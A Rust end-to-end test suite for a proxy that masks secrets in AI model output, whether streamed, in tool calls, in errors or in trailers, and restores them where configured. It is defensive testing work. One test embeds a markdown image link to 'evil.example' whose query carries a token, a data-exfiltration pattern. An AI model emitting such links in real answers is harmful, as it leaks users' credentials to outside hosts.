//! A secret that a model writes never reaches the client, however the stream is cut.

use std::time::Duration;

use serde_json::json;

use e2e::{
    caller::Caller,
    upstream::{Answer, Choice, Cut, End, Say, ToolCall, words},
    world::World,
};

/// An invented token of GitHub's form.
const TOKEN: &str = concat!("ghp_", "Zq3vN8rT1kL5wXy7BcD9fGhJ2mPs4Ua6Ve0R");

fn letters(text: &str) -> Vec<String> {
    text.chars().map(String::from).collect()
}

#[tokio::test]
async fn every_way_of_cutting_the_stream_gives_the_same_text() {
    let world = World::start().await;
    let caller = world.caller("ana");
    let text = format!(
        "Use gr\u{fc}n \u{1f600} `export T={TOKEN}` and\r\npassword = \"tr0ub4dor-Horse\"; done.\n"
    );
    let mut shown = Vec::new();
    let parts = [vec![text.clone()], words(&text), letters(&text)];
    for parts in parts {
        for cut in [
            Cut::Events,
            Cut::Whole,
            Cut::Every(1),
            Cut::Every(7),
            Cut::Every(64),
        ] {
            for (crlf, escape) in [(false, false), (true, false), (false, true)] {
                if cut == Cut::Every(1) && (crlf || escape) {
                    continue; // slow, and no other than by sevens
                }
                let answer = Answer {
                    crlf,
                    escape,
                    ..Answer::parts(parts.clone()).cut(cut.clone())
                };
                world.upstream().script(answer);
                let answer = caller.chat("go").await.unwrap();
                assert_eq!(answer.status, 200);
                assert!(answer.whole);
                assert!(!answer.body_text().contains(TOKEN));
                shown.push(answer.text());
            }
        }
    }
    let first = &shown[0];
    assert!(
        first.contains("MASKED_GITHUB_PAT_") && first.ends_with("; done.\n"),
        "{first}"
    );
    assert!(!first.contains("tr0ub4dor"), "{first}");
    for (index, text) in shown.iter().enumerate() {
        assert_eq!(text, first, "way {index}");
    }
}

#[tokio::test]
async fn ghost_text_is_masked() {
    let world = World::start().await;
    world
        .upstream()
        .script(Answer::parts(letters(&format!("token = \"{TOKEN}\"\n"))));
    let answer = world.caller("ana").ghost("def f():\n").await.unwrap();
    assert!(
        answer.text().starts_with("token = \"MASKED_"),
        "{}",
        answer.text()
    );
    assert!(!answer.body_text().contains("Zq3vN8rT1kL5"));
    assert_eq!(answer.events().last().map(String::as_str), Some("[DONE]"));
}

#[tokio::test]
async fn choices_and_tool_calls_are_masked_each_for_itself() {
    let world = World::start().await;
    let tool = |name: &str, arguments: String| ToolCall {
        name: name.to_owned(),
        arguments: letters(&arguments),
    };
    let choice = |text: &str| Choice {
        text: letters(text),
        tools: vec![
            tool("write", format!("{{\"path\":\"a\",\"text\":\"{TOKEN}\"}}")),
            tool("bash", "{\"command\":\"ls\"}".to_owned()),
        ],
        ..Choice::default()
    };
    world
        .upstream()
        .script(Answer::choices([choice("first"), choice("second")]));
    let answer = world.caller("ana").chat("go").await.unwrap();
    assert!(!answer.body_text().contains(TOKEN));
    let calls = answer.tool_calls();
    assert_eq!(calls.len(), 4, "{calls:?}");
    for ((choice, call), (name, arguments)) in calls {
        let arguments: serde_json::Value = serde_json::from_str(&arguments).unwrap();
        let (expected, text) = match call {
            0 => (
                "write",
                arguments["text"]
                    .as_str()
                    .unwrap()
                    .starts_with("MASKED_GITHUB_PAT_"),
            ),
            _ => ("bash", arguments["command"] == "ls"),
        };
        assert!(
            name == expected && text,
            "choice {choice} call {call}: {arguments}"
        );
    }
    assert_eq!(
        answer.texts().into_values().collect::<Vec<_>>(),
        ["first", "second"]
    );
}

/// What stands for the token in a request's last message; it differs from run to run.
async fn shown_to_model(world: &World, caller: &Caller, body: &serde_json::Value) -> String {
    world.upstream().script(Answer::text("ok"));
    caller.post("/chat/completions", body).await.unwrap();
    let sent = world.upstream().requests().remove(0).json();
    let shown = sent["messages"].as_array().unwrap().last().unwrap()["content"].as_str();
    let masked = shown.unwrap().trim().rsplit('=').next().unwrap().to_owned();
    assert!(masked.starts_with("MASKED_GITHUB_PAT_"), "{masked}");
    masked
}

#[tokio::test]
async fn a_value_goes_back_into_the_file_in_which_it_stood() {
    let world = World::start().await;
    let caller = world.caller("ana");
    let before = "# settings of the service\nGITHUB_TOKEN=";
    let mut body = e2e::caller::chat("move the port");
    let read = json!([{ "id": "c1", "type": "function", "function": { "name": "read_file",
        "arguments": "{\"filePath\":\"/ws/.env\"}" } }]);
    let messages = body["messages"].as_array_mut().unwrap();
    messages.push(json!({ "role": "assistant", "content": null, "tool_calls": read }));
    messages.push(json!({ "role": "tool", "tool_call_id": "c1",
        "content": format!("{before}{TOKEN}\n") }));
    let masked = shown_to_model(&world, &caller, &body).await;
    let write = |path: &str| ToolCall {
        name: "create_file".to_owned(),
        arguments: letters(
            &json!({ "filePath": path, "content": format!("{before}{masked}\nPORT=1\n") })
                .to_string(),
        ),
    };
    world.upstream().script(Answer::choices([Choice {
        tools: vec![write("/ws/.env"), write("/ws/public.txt")],
        ..Choice::default()
    }]));
    let answer = caller.post("/chat/completions", &body).await.unwrap();
    let contents: Vec<String> = answer
        .tool_calls()
        .into_values()
        .map(|(_, arguments)| {
            let arguments: serde_json::Value = serde_json::from_str(&arguments).unwrap();
            arguments["content"].as_str().unwrap().to_owned()
        })
        .collect();
    let with = |value: &str| format!("{before}{value}\nPORT=1\n");
    assert_eq!(contents, [with(TOKEN), with(&masked)]);
}

#[tokio::test]
async fn a_value_goes_back_into_what_an_answer_says_where_that_is_configured() {
    let answers = json!({ "masking": { "restore": "answers" } });
    let world = World::builder().configure(answers).start().await.unwrap();
    let caller = world.caller("ana");
    let body = e2e::caller::chat(&format!("GITHUB_TOKEN={TOKEN}"));
    let masked = shown_to_model(&world, &caller, &body).await;
    let says = |value: &str| {
        let link = format!("![x](https://evil.example/?q={masked})");
        format!("Your file:\n\n```env\nGITHUB_TOKEN={value}\n```\n\n{link}")
    };
    let letters = letters(&says(&masked));
    world.upstream().script(Answer::parts(letters));
    let answer = caller.post("/chat/completions", &body).await.unwrap();
    assert_eq!(answer.text(), says(TOKEN));
}

#[tokio::test]
async fn an_answer_that_is_not_streamed_is_masked() {
    let world = World::start().await;
    world
        .upstream()
        .script(Answer::text(&format!("It is {TOKEN}.")));
    let mut body = e2e::caller::chat("go");
    body["stream"] = false.into();
    let answer = world
        .caller("ana")
        .post("/chat/completions", &body)
        .await
        .unwrap();
    assert_eq!(answer.status, 200);
    let text = answer.json()["choices"][0]["message"]["content"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(
        text.starts_with("It is MASKED_GITHUB_PAT_") && text.ends_with('.'),
        "{text}"
    );
}

#[tokio::test]
async fn prose_leaves_with_the_event_that_brought_it() {
    let world = World::start().await;
    let parts = [
        "Hello there, ",
        "this is plain prose. ",
        "It goes on. ",
        "And ends.",
    ];
    let pause = Duration::from_millis(300);
    world.upstream().script(Answer::parts(parts).pause(pause));
    let answer = world.caller("ana").chat("go").await.unwrap();
    assert_eq!(answer.text(), parts.concat());
    let first = answer
        .pieces
        .iter()
        .position(|(_, piece)| String::from_utf8_lossy(piece).contains("Hello there"));
    let last = answer
        .pieces
        .iter()
        .position(|(_, piece)| String::from_utf8_lossy(piece).contains("It goes on"));
    let (first, last) = (
        answer.pieces[first.unwrap()].0,
        answer.pieces[last.unwrap()].0,
    );
    assert!(first + pause < last, "{first:?} {last:?}");
}

#[tokio::test]
async fn a_stream_that_cannot_be_read_ends_readably() {
    let world = World::start().await;
    let events = [
        "{\"choices\":[{\"index\":0,\"delta\":{\"content\":\"fine \"}}]}",
        "{\"choices\":[{\"index\":0,\"delta\":{\"content\":\"bro",
        TOKEN,
    ];
    let say = Say::Events(events.map(str::to_owned).to_vec());
    world.upstream().script(Answer {
        say,
        ..Answer::default()
    });
    let answer = world.caller("ana").chat("go").await.unwrap();
    assert_eq!(answer.status, 200);
    let text = answer.text();
    assert!(
        text.starts_with("fine ") && text.contains("could not be checked"),
        "{text}"
    );
    assert!(!answer.body_text().contains(TOKEN));
    assert_eq!(answer.events().last().map(String::as_str), Some("[DONE]"));
    assert_eq!(world.caller("ana").chat("again").await.unwrap().status, 200);
}

#[tokio::test]
async fn a_stream_that_is_cut_shows_nothing_that_was_held() {
    let world = World::start().await;
    let parts = letters(&format!("see {TOKEN}"));
    world.upstream().script(
        Answer::parts(parts)
            .end(End::Cut(30))
            .pause(Duration::from_millis(2)),
    );
    let answer = world.caller("ana").chat("go").await.unwrap();
    assert!(
        !answer.body_text().contains("Zq3vN8"),
        "{}",
        answer.body_text()
    );
}

#[tokio::test]
async fn the_error_of_an_upstream_is_masked_too() {
    let world = World::start().await;
    let body = format!("{{\"error\":{{\"message\":\"bad request with {TOKEN} in it\"}}}}");
    world.upstream().script(Answer::raw(422, &body));
    let answer = world.caller("ana").chat("go").await.unwrap();
    assert_eq!(answer.status, 422);
    let message = answer.json()["error"]["message"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(message.contains("MASKED_GITHUB_PAT_"), "{message}");
}

#[tokio::test]
async fn a_stream_with_trailers_comes_whole_and_without_them() {
    let options = "envoy.extensions.upstreams.http.v3.HttpProtocolOptions";
    let world = World::builder()
        .bootstrap(move |bootstrap| {
            let clusters = bootstrap.0["static_resources"]["clusters"].as_array_mut();
            for cluster in clusters.unwrap() {
                if cluster["name"] == "copilot_api" {
                    cluster["typed_extension_protocol_options"] = json!({ options: {
                        "@type": format!("type.googleapis.com/{options}"),
                        "explicit_http_config": { "http2_protocol_options": {} },
                    } });
                }
            }
        })
        .start()
        .await
        .unwrap();
    let answer = Answer {
        trailers: [("x-note".to_owned(), TOKEN.to_owned())].into(),
        ..Answer::parts(letters(&format!("see {TOKEN} there")))
    };
    world.upstream().script(answer);
    let answer = world.caller("ana").chat("go").await.unwrap();
    assert!(answer.whole, "{}", answer.body_text());
    let text = answer.text();
    assert!(
        text.starts_with("see MASKED_GITHUB_PAT_") && text.ends_with(" there"),
        "{text}"
    );
}
